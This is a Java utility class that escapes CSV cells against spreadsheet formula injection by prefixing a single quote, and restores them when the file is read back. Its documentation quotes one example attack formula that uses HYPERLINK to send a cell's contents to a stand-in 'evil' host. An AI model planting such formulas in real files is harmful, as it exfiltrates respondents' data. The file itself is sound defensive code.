package org.ctnat.io;

import java.util.Objects;

/**
 * Spreadsheet formula neutralisation for CSV cells ("CSV injection"). A spreadsheet that opens
 * a CSV file runs a cell starting with {@code =}, {@code +}, {@code -} or {@code @} as a
 * formula — {@code =HYPERLINK("http://evil/?"&A1,"click")} sends a neighbouring answer away —
 * and tab and carriage return can smuggle one past simple filters. Free-text answers are
 * written by respondents, so every CSV writer of the SDK passes each cell through {@link
 * #neutralise(String)}, and every CSV reader passes each cell through {@link
 * #restore(String)}.
 *
 * <p>The escape, following the OWASP recommendation, prefixes a single quote {@code '}: a
 * spreadsheet shows {@code '=1+1} as the text {@code =1+1}. To keep it unambiguous, a cell that
 * itself starts with {@code '} is prefixed too:
 *
 * <table>
 *   <caption>Cells as written and read back</caption>
 *   <tr><th>text</th><th>cell in the file</th></tr>
 *   <tr><td>{@code =SUM(A1:A9)}</td><td>{@code '=SUM(A1:A9)}</td></tr>
 *   <tr><td>{@code -2+3}</td><td>{@code '-2+3}</td></tr>
 *   <tr><td>{@code 'quoted'}</td><td>{@code ''quoted'}</td></tr>
 *   <tr><td>{@code '=not a formula}</td><td>{@code ''=not a formula}</td></tr>
 *   <tr><td>{@code plain text}</td><td>{@code plain text}</td></tr>
 * </table>
 *
 * <p>So {@code restore(neutralise(s))} equals {@code s} for every string, and {@code
 * neutralise(restore(c))} equals {@code c} for every cell a writer produced. A hand-made cell
 * {@code 'abc} (quote, then an ordinary character) is read as it stands. Readers of these
 * files other than the SDK (R, pandas) see the prefix: strip it with {@code sub("^'(?=[-=+@\t\r'])",
 * "", x, perl = TRUE)} in R or {@code s.str.replace(r"^'(?=[-=+@\t\r'])", "", regex=True)} in
 * pandas.
 *
 * <p>Stateless and thread-safe.
 */
public final class CsvCells {

  /** The characters that make a spreadsheet read a cell as a formula when they come first. */
  public static final String FORMULA_TRIGGERS = "=+-@\t\r";

  private static final char QUOTE = '\'';

  private CsvCells() {}

  /**
   * The cell to write for a text: prefixed with {@code '} if it starts with a formula trigger
   * ({@code =}, {@code +}, {@code -}, {@code @}, tab or carriage return) or with {@code '}; otherwise unchanged.
   *
   * @param text the text, possibly empty
   * @return the cell
   */
  public static String neutralise(String text) {
    Objects.requireNonNull(text, "text");
    return !text.isEmpty() && escapes(text.charAt(0)) ? QUOTE + text : text;
  }

  /**
   * The text a cell holds: without its first character if that is {@code '} followed by a
   * formula trigger or another {@code '}; otherwise unchanged.
   *
   * @param cell the cell as read, possibly empty
   * @return the text
   */
  public static String restore(String cell) {
    Objects.requireNonNull(cell, "cell");
    return cell.length() >= 2 && cell.charAt(0) == QUOTE && escapes(cell.charAt(1)) ? cell.substring(1) : cell;
  }

  /**
   * Whether a text would be changed by {@link #neutralise(String)}.
   *
   * @param text the text
   * @return true if it starts with a formula trigger or {@code '}
   */
  public static boolean needsNeutralising(String text) {
    return !text.isEmpty() && escapes(text.charAt(0));
  }

  private static boolean escapes(char first) {
    return first == QUOTE || FORMULA_TRIGGERS.indexOf(first) >= 0;
  }
}
